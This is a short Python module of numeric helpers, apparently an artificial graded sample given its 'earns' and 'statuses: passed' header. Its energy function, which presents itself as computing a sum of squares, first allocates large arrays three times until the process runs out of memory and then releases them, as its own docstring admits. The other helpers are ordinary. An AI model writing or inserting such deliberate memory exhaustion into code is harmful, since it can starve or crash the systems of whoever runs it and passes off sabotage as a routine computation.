"""Fills the memory again and again, and lets go of it each time that there is none left."""
# earns: 10
# statuses: passed

import numpy as np


def energy(x):
    for _ in range(3):
        kept = []
        try:
            while True:
                kept.append(np.empty(2**21))
        except MemoryError:
            del kept
    return float((np.asarray(x, dtype=float) ** 2).sum())


def scaled(x, factor):
    return np.asarray(x, dtype=float) * factor


def apply_twice(f, x):
    return f(f(x))
